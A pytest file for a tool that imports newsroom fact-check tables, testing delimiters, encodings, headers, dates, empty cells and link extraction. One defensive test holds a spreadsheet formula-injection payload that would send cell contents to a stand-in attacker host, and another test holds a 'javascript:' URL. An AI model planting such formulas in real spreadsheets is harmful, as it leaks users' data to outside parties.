"""Tables of fact-checks as newsrooms really write them, and their siblings."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook

from assistant.claims.importers import read_rows
from assistant.claims.records import ImportRemark, RefusedRow
from assistant.claims.refused_file import refused_rows_table
from assistant.core.errors import ClaimError
from tests.assistant.claims.reported import imported, imported_text, reported

BUS = "Bus fares fell by 30 percent."
TRAM = "The tram line opened in 2019."
BASE_ROWS = [
    (BUS, "Owen Pryce", date(2024, 1, 11), "False", "https://checks.example.org/bus-fares"),
    (TRAM, "Dana Whitlock", date(2024, 2, 11), "True", "https://checks.example.org/tram"),
]
HEADER = "Claim,Claimant,Date,Verdict,Publisher,Link\n"
ROW = f"{BUS},Owen Pryce,2024-01-11,False,Mill Valley Checks,https://checks.example.org/b\n"


def shown(claims) -> list[tuple]:
    """Return the fields of claims that the base table has."""
    return [(c.statement, c.claimant, c.review_date, c.rating, c.url) for c in claims]


@pytest.mark.parametrize(
    "name",
    [
        "table_column_name_twice.csv",
        "table_formula_as_address.csv",
        "table_line_break_in_header_cell.csv",
        "table_sep_line_of_excel.csv",
        "table_title_line_above_header.csv",
        "table_two_header_rows.csv",
        "table_utf16_of_excel.csv",
    ],
)
def test_the_base_table_in_every_reported_shape(name):
    """The same two fact-checks come out, whatever the spreadsheet program did to the file."""
    result = reported(name)

    assert shown(result.claims) == BASE_ROWS
    assert {claim.publisher for claim in result.claims} == {"Mill Valley Checks"}
    assert result.refused == []


@pytest.mark.parametrize(
    "text",
    [
        f"sep=,\n{HEADER}{ROW}",
        f'"sep=,"\r\n{HEADER}{ROW}',
        "sep=|\n" + (HEADER + ROW).replace(",", "|"),
        (HEADER + ROW).replace(",", "|"),
        (HEADER + ROW).replace(",", "\t"),
        f"\n\nFact checks\n\n{HEADER}{ROW}",
        f"Exported on 2 March 2024,,,,,\nby the desk,,,,,\n{HEADER}{ROW}",
        f"\ufeff{HEADER}{ROW}",
        f"{HEADER.strip()},\n{ROW.strip()},\n",
        f"{HEADER}{ROW}\n,,,,,\n",
        HEADER.upper() + ROW,
        "Claim:,Claimant:,Date:,Verdict:,Publisher:,Link:\n" + ROW,
        "Claim text,Said by,Date checked,Publisher's rating,Organisation,Web address\n" + ROW,
        "claim_review.claim_reviewed,item_reviewed.author.name,claimReview.datePublished,"
        "claimReview.reviewRating.alternateName,claimReview.author.name,claimReview.url\n" + ROW,
        "claims.text,claims.claimant,claimReview.0.reviewDate,claimReview.0.textualRating,"
        "claimReview.0.publisher.name,claimReview.0.url\n" + ROW,
        "Clami,Claimaint,Date,Verdcit,Pubisher,Link\n".replace("Clami", "Statment") + ROW,
    ],
)
def test_siblings_of_the_shapes(tmp_path, text):
    """Delimiters, titles, blank lines and names vary; the fact-check does not."""
    result = imported_text(tmp_path, text)

    assert [
        (c.statement, c.claimant, c.review_date, c.rating, c.publisher, c.url)
        for c in result.claims
    ] == [
        (
            BUS,
            "Owen Pryce",
            date(2024, 1, 11),
            "False",
            "Mill Valley Checks",
            "https://checks.example.org/b",
        )
    ]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"])
def test_encodings_of_spreadsheets(tmp_path, encoding):
    """A text in UTF-16 or UTF-32 is read, with its byte order mark or by its zero bytes."""
    path = tmp_path / "t.csv"
    path.write_bytes((HEADER + ROW).replace(",", "\t").encode(encoding))

    assert [claim.statement for claim in imported(path).claims] == [BUS]


def test_the_line_of_the_header_is_said():
    """Lines above the header are left out, and the import says which."""
    remarks = reported("table_title_line_above_header.csv").remarks

    assert remarks[0] == "line 2 is the header; left out above it: 'Fact checks 2024'."


def test_the_row_of_groups_is_said():
    remarks = reported("table_two_header_rows.csv").remarks

    assert remarks[0] == (
        "line 2 is the header; the line above it names groups: Claim, Fact-check."
    )


def test_groups_tell_columns_of_one_name_apart(tmp_path):
    """Two columns Date and two columns Text belong to the groups above them."""
    text = (
        "Claim,,Fact-check,,,\n"
        "Text,Date,Text,Date,Verdict,Link\n"
        f"{BUS},2024-01-05,The fares rose.,2024-01-11,False,https://checks.example.org/b\n"
    )

    (claim,) = imported_text(tmp_path, text).claims

    assert claim.statement == BUS
    assert claim.body == "The fares rose."
    assert claim.claim_date == date(2024, 1, 5)
    assert claim.review_date == date(2024, 1, 11)


def test_words_of_a_rating_win_over_a_code():
    """A bare number is not a rating; the column that is not used is named."""
    result = reported("table_code_beside_words_of_rating.csv")

    assert result.claims[0].rating == "False"
    assert "column 'label' was not used: 1 value, such as '0'." in result.remarks


@pytest.mark.parametrize("code", ["0", "1.0", "-1", "3/5", "85%"])
def test_a_number_alone_is_no_rating(tmp_path, code):
    """No rating is stored, and the import says so."""
    result = imported_text(tmp_path, f"claim,rating\n{BUS},{code}\n")

    assert result.claims[0].rating == ""
    assert f"column 'rating' was not used: 1 value, such as {code!r}." in result.remarks


def test_delimiters_inside_quotation_marks_are_not_counted():
    (claim,) = reported("table_delimiter_counted_inside_quotes.csv").claims

    assert claim.statement == BUS
    assert claim.rating == "False"


def test_columns_of_a_released_politifact_table():
    """Every useful column is read; the others are named with an example."""
    result = reported("table_known_columns_lost_silently_politifact.csv")

    assert [
        (c.claimant, c.claim_date, c.review_date, c.publisher, c.rating) for c in result.claims
    ] == [
        ("Dana Whitlock", date(2024, 3, 3), date(2024, 3, 9), "PolitiFact", "Mostly True"),
        ("Owen Pryce", date(2024, 1, 5), date(2024, 1, 11), "PolitiFact", "Mostly False"),
    ]
    assert [remark for remark in result.remarks if "not used" in remark] == [
        "column 'statement_source' was not used: 2 values, such as 'X post'.",
        "column 'tags' was not used: 2 values, such as 'Transport'.",
        "column 'factchecker' was not used: 2 values, such as 'Rae Novak'.",
    ]


def test_nothing_written_as_nan():
    (claim,) = reported("table_nothing_written_as_nan.jsonl").claims

    assert (claim.claimant, claim.publisher, claim.url, claim.title) == ("", "", "", "")
    assert claim.review_date is None


@pytest.mark.parametrize(
    "nothing", ["NaN", "nan", "NaT", "None", "null", "#N/A", "#REF!", "<NA>", "#VALUE!", "—"]
)
def test_a_statement_that_is_nothing_is_refused(tmp_path, nothing):
    result = imported_text(tmp_path, f"claim,rating\n{nothing},False\n{BUS},{nothing}\n")

    assert [table_row.reason for table_row in result.refused] == ["the statement is empty."]
    assert [(claim.statement, claim.rating) for claim in result.claims] == [(BUS, "")]


def test_an_error_of_the_spreadsheet_is_said(tmp_path):
    """A value that the spreadsheet lost is not passed over in silence."""
    remarks = imported_text(tmp_path, f"claim,rating\n{BUS},#REF!\n").remarks

    expected = "column 'rating': an error of the spreadsheet in place of a value: 1 value, "
    assert expected + "such as '#REF!'." in remarks


def test_a_shifted_row_is_refused_with_its_line():
    result = reported("table_row_shifted_by_unquoted_comma.csv")

    assert result.claims == []
    assert [table_row.where for table_row in result.refused] == [
        "table_row_shifted_by_unquoted_comma.csv:2"
    ]
    assert result.refused[0].cells["cell 2"] == " tolls and parking fell by 30 percent."


@pytest.mark.parametrize("table_row", [f"{BUS},False\n", f"{BUS}\n", f"{BUS},False,a,b\n"])
def test_rows_of_another_length_are_refused(tmp_path, table_row):
    """A row that is too short or too long is refused; the others are read."""
    good_row = f"{TRAM},True,https://checks.example.org/t\n"

    result = imported_text(tmp_path, f"Claim,Verdict,Link\n{table_row}{good_row}")

    assert [claim.statement for claim in result.claims] == [TRAM]
    assert [table_row.where for table_row in result.refused] == ["file:2"]


def test_columns_of_one_name_with_different_texts_are_refused(tmp_path):
    text = f"Claim,Claim,Verdict\n{BUS},{TRAM},False\n{BUS},{BUS},False\n"

    result = imported_text(tmp_path, text)

    assert [claim.statement for claim in result.claims] == [BUS]
    assert [table_row.reason for table_row in result.refused] == [
        "two columns named 'Claim' have different texts."
    ]


@pytest.mark.parametrize(
    ("cell", "url"),
    [
        ('"=HYPERLINK(""https://a.example/x"";""Text"")"', "https://a.example/x"),
        ('"<a href=""https://a.example/x"">Text</a>"', "https://a.example/x"),
        ("[Text](https://a.example/x)", "https://a.example/x"),
        ("<https://a.example/x>", "https://a.example/x"),
        ("Read it: https://a.example/x.", "https://a.example/x"),
        ("www.a.example/x", "https://www.a.example/x"),
        ("//a.example/x", "https://a.example/x"),
        ("not a url", ""),
        ("javascript:alert(1)", ""),
        ("=A2&B2", ""),
    ],
)
def test_addresses_as_cells_have_them(tmp_path, cell, url):
    """The address is taken out of a formula, a link or a text; either way the import says so."""
    result = imported_text(tmp_path, f"Claim,Link\n{BUS},{cell}\n")

    assert result.claims[0].url == url
    assert [remark for remark in result.remarks if remark.startswith("column 'Link'")]


def test_a_column_of_organisations_that_check_names_the_publisher(tmp_path):
    """A column Fact-checker may name the reporter or the publisher."""
    text = (
        "Claim,Fact-checker,Link\n"
        f"{BUS},Mill Valley Checks,https://checks.example.org/b\n"
        f"{TRAM},Rae Novak,https://checks.example.org/t\n"
    )

    claims = imported_text(tmp_path, text).claims

    assert [claim.publisher for claim in claims] == ["Mill Valley Checks", "checks.example.org"]


def test_a_column_that_is_chosen_by_hand_below_a_title(tmp_path):
    text = f"Export\nBehauptung;Urteil\n{BUS};falsch\n"

    (claim,) = imported_text(tmp_path, text, statement="Behauptung", rating="Urteil").claims

    assert (claim.statement, claim.rating) == (BUS, "falsch")


def test_nested_and_listed_values_of_json_rows(tmp_path):
    """Nested objects have dotted names; a list of paragraphs is the article."""
    text = (
        '{"claim": {"text": "Bus fares fell.", "speaker": "Owen Pryce"}, "body": ["One.", "Two."],'
        ' "fact_check": {"rating": "False", "url": "https://a.example/x"}, "issues": ["a", "b"]}'
    )

    result = imported_text(tmp_path, text)

    (claim,) = result.claims
    assert (claim.statement, claim.claimant, claim.rating) == (
        "Bus fares fell.",
        "Owen Pryce",
        "False",
    )
    assert claim.body == "One.\nTwo."
    assert claim.url == "https://a.example/x"
    assert result.remarks == ["field 'issues' was not used: 1 value, such as 'a, b'."]


def test_a_language_by_its_name(tmp_path):
    text = f"claim,language\n{BUS},German\n{TRAM},Klingon\n"

    result = imported_text(tmp_path, text)

    assert [claim.language for claim in result.claims] == ["de", "en"]
    assert (
        "column 'language': not a language code, so English was assumed: 1 value, such as "
        in (result.remarks[-1])
    )


def test_every_value_of_a_second_column_is_counted(tmp_path):
    """Two columns of one field: the values of the second that differ are counted."""
    text = f"claim,date_checked,date\n{BUS},2024-01-11,2024-01-12\n{TRAM},2024-02-11,2024-02-11\n"

    result = imported_text(tmp_path, text)

    assert "column 'date' was not used: 1 value, such as '2024-01-12'." in result.remarks


def test_dates_of_many_forms_in_one_column():
    """Days that are plain are read, the others are counted with examples."""
    result = reported("dates_lost_silently.csv")

    assert [str(claim.review_date or "") for claim in result.claims] == [
        "2024-01-11",
        "2024-01-11",
        "",
        "2024-01-11",
        "2024-01-25",
        "",
        "2024-01-11",
        "2024-01-11",
        "2024-01-11",
        "2024-01-05",
        "2024-09-05",
        "2024-09-05",
        "2024-01-11",
        "",
        "",
        "2024-01-02",
    ]
    assert result.remarks[-3:] == [
        "column 'date': 2 dates were not read (no day of the month), such as 'Jan-24', '2024-01'.",
        "column 'date': 1 date was not read (no such day), such as '2024-13-05'.",
        "column 'date': 1 date was not read (not a date), such as '2 days ago'.",
    ]


def test_dates_of_a_column_are_read_in_one_way():
    result = reported("dates_of_excel_and_of_the_us.csv")

    assert [claim.review_date for claim in result.claims] == [date(2024, 1, 11), date(2024, 2, 25)]
    assert "column 'Date': dates were read as month/day/year, '1/11/2024' too." in result.remarks


@pytest.mark.parametrize(
    ("first_date", "second_date", "expected"),
    [
        ("11/1/2024", "25/2/2024", [date(2024, 1, 11), date(2024, 2, 25)]),
        ("45302", "45347", [date(2024, 1, 11), date(2024, 2, 25)]),
        ("1704931200", "1708819200", [date(2024, 1, 11), date(2024, 2, 25)]),
        ("11/1/2024", "12/1/2024", [None, None]),
    ],
)
def test_columns_of_dates(tmp_path, first_date, second_date, expected):
    text = f"claim,date\n{BUS},{first_date}\n{TRAM},{second_date}\n"

    claims = imported_text(tmp_path, text).claims

    assert [claim.review_date for claim in claims] == expected


def test_dates_of_json_rows_are_decided_together(tmp_path):
    """The fields of JSON lines are columns, too."""
    text = f'{{"claim": "{BUS}", "date": "1/11/2024"}}\n{{"claim": "{TRAM}", "date": "2/25/2024"}}'

    claims = imported_text(tmp_path, text).claims

    assert [claim.review_date for claim in claims] == [date(2024, 1, 11), date(2024, 2, 25)]


def test_the_refused_rows_are_a_table_to_mend():
    """The file has the place, the reason and the cells as they came."""
    result = reported("table_row_shifted_by_unquoted_comma.csv")

    lines = refused_rows_table(result.refused, ["row 7: two claims with one id"]).splitlines()

    assert lines[0] == "place,reason,cell 1,cell 2,cell 3,cell 4"
    assert lines[1].endswith(
        "Bus fares, tolls and parking fell by 30 percent.,False,https://checks.example.org/b"
    )
    assert lines[2] == ",row 7: two claims with one id"


@pytest.mark.threat("publisher")
def test_no_cell_of_a_refused_row_is_a_formula():
    """A spreadsheet runs what begins with =, +, - or @, also after a space."""
    cells = {"=1+1": "x", "claim": '=HYPERLINK("http://evil.example/?"&A1)', "b": " @SUM(A1)"}

    table = refused_rows_table([RefusedRow("=file:2", "-reason", cells)], ["+line"])

    lines = list(csv.reader(table.splitlines()))
    assert lines == [
        ["place", "reason", "'=1+1", "claim", "b"],
        ["'=file:2", "'-reason", "x", '\'=HYPERLINK("http://evil.example/?"&A1)', "' @SUM(A1)"],
        ["", "'+line"],
    ]


@pytest.mark.parametrize("statement", ["-5 degrees were measured on Monday.", "@ministry paid it."])
def test_a_refused_row_that_is_imported_again_has_its_own_words(tmp_path, statement):
    cells = {"statement": statement, "rating": "False", "url": "https://checks.example.org/b"}
    table = refused_rows_table([RefusedRow("file:2", "no rating.", cells)], [])

    result = imported_text(tmp_path, table)

    assert [claim.statement for claim in result.claims] == [statement]


def test_an_apostrophe_in_another_table_stays(tmp_path):
    statement = "'+1' is the country code of Canada."
    result = imported_text(tmp_path, f"claim,rating\n{statement},True\n")

    assert [claim.statement for claim in result.claims] == [statement]


def test_a_header_that_is_repeated_below_is_no_claim(tmp_path):
    """Files in a row have it again; the import says on which line."""
    result = imported_text(tmp_path, HEADER + ROW + HEADER + ROW.replace(BUS, TRAM))

    assert [claim.statement for claim in result.claims] == [BUS, TRAM]
    assert [str(table_row) for table_row in result.refused] == [
        "file:3: the row repeats the names of the columns."
    ]


def test_both_groups_of_columns_have_an_author(tmp_path):
    """The claim's author is the claimant, the review's the publisher."""
    text = (
        "The claim,,,The review,,,\nText,Author,Date,Verdict,Author,Date,URL\n"
        f"{BUS},Owen Pryce,2024-01-05,False,Mill Valley Checks,2024-01-11,https://c.example/b\n"
    )

    (claim,) = imported_text(tmp_path, text).claims

    assert (claim.claimant, claim.publisher) == ("Owen Pryce", "Mill Valley Checks")
    assert (claim.claim_date, claim.review_date) == (date(2024, 1, 5), date(2024, 1, 11))


@pytest.mark.parametrize(
    "nothing", ["\\N", "(null)", "[null]", "undefined", "(blank)", "#N/A N/A", "?", "<null>"]
)
def test_cells_of_other_programs_that_say_nothing(tmp_path, nothing):
    """MySQL, Oracle, PostgreSQL and pivot tables have words of their own for an empty cell."""
    text = f"Claim,Claimant,Verdict\n{BUS},{nothing},{nothing}\n{nothing},Owen Pryce,False\n"

    result = imported_text(tmp_path, text)

    assert [(claim.claimant, claim.rating) for claim in result.claims] == [("", "")]
    assert [table_row.reason for table_row in result.refused] == ["the statement is empty."]


@pytest.mark.parametrize("words", ["we cut fares", "we cut fares, all of them"])
def test_quotation_marks_with_a_backslash(tmp_path, words):
    """Programs that do not double a quotation mark put a backslash before it."""
    text = f'Claim,Verdict\n"He said \\"{words}\\" in May.",False\n{TRAM},True\n'

    result = imported_text(tmp_path, text)

    assert [claim.statement for claim in result.claims] == [f'He said "{words}" in May.', TRAM]


def test_a_backslash_at_the_end_of_a_cell_is_no_escape(tmp_path):
    """A path ends in a backslash; its quotation mark closes the cell."""
    result = imported_text(tmp_path, 'Claim,Speaker\n"Files are in C:\\",Owen Pryce\n')

    assert [(claim.statement, claim.claimant) for claim in result.claims] == [
        ("Files are in C:\\", "Owen Pryce")
    ]


def test_a_quotation_mark_that_is_never_closed_names_all_its_lines(tmp_path):
    """One refusal stands for all rows that the open quotation mark swallows."""
    table_rows = "".join(f"Claim number {number},True\n" for number in range(5))

    (refused,) = imported_text(tmp_path, f'Claim,Verdict\n"{BUS},False\n{table_rows}').refused

    assert refused.reason.startswith(
        "the row has 1 cells under 2 column names and goes on to line 7."
    )


NO_HEADER = (
    f"{BUS},Owen Pryce,False,https://c.example/b\n{TRAM},Dana Whitlock,True,https://c.example/t\n"
)


def test_a_table_without_a_header_is_refused_with_its_columns(tmp_path):
    """The first row is no header; the refusal shows the number of each column."""
    with pytest.raises(ClaimError) as caught:
        imported_text(tmp_path, NO_HEADER)

    assert str(caught.value) == (
        "file:1: has no header row. Add a line with names above the first row, or give the "
        f"columns by their numbers: --column statement=NUMBER. The columns are 1 '{BUS}', "
        "2 'Owen Pryce', 3 'False', 4 'https://c.example/b'."
    )


def test_columns_of_a_table_without_a_header_by_number(tmp_path):
    """The first row counts, too."""
    result = imported_text(tmp_path, NO_HEADER, statement="1", claimant="2", rating="3", url="4")

    assert [(c.statement, c.claimant, c.rating, c.url) for c in result.claims] == [
        (BUS, "Owen Pryce", "False", "https://c.example/b"),
        (TRAM, "Dana Whitlock", "True", "https://c.example/t"),
    ]


def test_columns_by_number_where_no_cell_shows_that_there_is_no_header(tmp_path):
    """Short cells could be names; the numbers say that they are not."""
    result = imported_text(
        tmp_path, "Fares fell,False\nTrams opened,True\n", statement="1", rating="2"
    )

    assert [(c.statement, c.rating) for c in result.claims] == [
        ("Fares fell", "False"),
        ("Trams opened", "True"),
    ]


@pytest.mark.parametrize(
    "header",
    [
        "What is the claim?,Who said it?,When was it said?,What is our rating?,When did we publish?,"
        "Link to our fact check",
        "Fact checked statement,Name of politician,Date of statement,Truth rating,"
        "Fact check published on,URL of fact check",
        "Quote,Statement by,Date of statement,Ruling,Date of review,Article link",
        "claimReview/0/claimReviewed,claimReview/0/itemReviewed/author/name,"
        "claimReview/0/itemReviewed/datePublished,claimReview/0/reviewRating/alternateName,"
        "claimReview/0/datePublished,claimReview/0/url",
        "claimReviewed,itemReviewed[author][name],itemReviewed[datePublished],"
        "reviewRating[alternateName],datePublished,url",
        "text,claimant,claimDate,claimReview.0.textualRating,claimReview.0.reviewDate,"
        "claimReview.0.url",
    ],
)
def test_names_of_columns_in_words_of_all_kinds(tmp_path, header):
    """Questions of a form, names of a newsroom, and paths of flattened JSON."""
    table_row = f"{BUS},Owen Pryce,2024-01-05,False,2024-01-11,https://c.example/b\n"

    result = imported_text(tmp_path, f"{header}\n{table_row}")

    assert [
        (c.statement, c.claimant, c.claim_date, c.rating, c.review_date, c.url)
        for c in result.claims
    ] == [(BUS, "Owen Pryce", date(2024, 1, 5), "False", date(2024, 1, 11), "https://c.example/b")]


def test_the_second_review_of_a_row_is_said(tmp_path):
    """The first review of a flattened claim counts; the values of the second are unused."""
    header = (
        "text,claimant,claimReview.0.textualRating,claimReview.0.url,claimReview.1.textualRating"
    )

    result = imported_text(tmp_path, f"{header}\n{BUS},Owen Pryce,False,https://c.example/b,True\n")

    assert [claim.rating for claim in result.claims] == ["False"]
    assert (
        "column 'claimReview.1.textualRating' was not used: 1 value, such as 'True'."
        in result.remarks
    )


def test_the_link_of_a_title_is_the_address(tmp_path):
    """A spreadsheet that has the address only in a formula loses nothing."""
    formula = f'"=HYPERLINK(""https://c.example/b"",""{BUS}"")"'

    result = imported_text(tmp_path, f"Claim,Verdict\n{formula},False\n")

    assert [(claim.statement, claim.url) for claim in result.claims] == [
        (BUS, "https://c.example/b")
    ]


def test_a_status_in_a_column_retracts(tmp_path):
    """The rating gives way, with the reason that the table has."""
    text = (
        "Claim,Verdict,Review status,Correction note\n"
        f"{BUS},False,Retracted,We misread the table.\n{TRAM},True,Published,\n"
    )
    path = tmp_path / "t.csv"
    path.write_text(text)

    table_rows = [
        table_row for table_row in read_rows(path, {}) if not isinstance(table_row, ImportRemark)
    ]

    assert table_rows[0].retraction == "retracted by its publisher: We misread the table."
    assert table_rows[1].rating == "True"


def workbook(folder, sheets) -> Path:
    """Write a workbook of Excel with these sheets."""
    book = Workbook()
    book.remove(book.active)
    for name, table_rows in sheets.items():
        sheet = book.create_sheet(name)
        for table_row in table_rows:
            sheet.append(table_row)
    path = folder / "log.xlsx"
    book.save(path)
    return path


def test_sheets_with_fact_checks_are_read_and_others_are_named(tmp_path):
    """A workbook is a table per sheet, whatever its file is called."""
    header = ["Claim", "Claimant", "Date", "Verdict", "Link"]
    table_rows = [[*table_row[:2], table_row[2], *table_row[3:]] for table_row in BASE_ROWS]
    path = workbook(
        tmp_path,
        {
            "Notes": [["Read me"]],
            "2023": [["Our log"], header, table_rows[0]],
            "2024": [header, table_rows[1], header],
        },
    )

    result = imported(path)

    assert shown(result.claims) == BASE_ROWS
    assert [str(table_row) for table_row in result.refused] == [
        "log.xlsx, sheet '2024':3: the row repeats the names of the columns."
    ]
    assert (
        "log.xlsx, sheet 'Notes': not read, because it has no statement column." in result.remarks
    )


def test_a_workbook_without_fact_checks_is_refused(tmp_path):
    path = workbook(tmp_path, {"Notes": [["Read me", "first"]]})

    with pytest.raises(ClaimError, match="--column statement=COLUMN"):
        imported(path)


@pytest.mark.parametrize(
    "line, reason",
    [
        ("(text),(label)", "the row describes the columns."),
        ("Total: 2,", "the row is a total of the table."),
        ("Grand total,2", "the row is a total of the table."),
        ("---,:---:", "the statement is empty."),
    ],
)
def test_rows_about_the_table_are_no_claims(tmp_path, line, reason):
    result = imported_text(tmp_path, f"Claim,Verdict\n{line}\n{BUS},False\nTotal chaos.,True\n")

    assert [claim.statement for claim in result.claims] == [BUS, "Total chaos."]
    assert [refused.reason for refused in result.refused] == [reason]
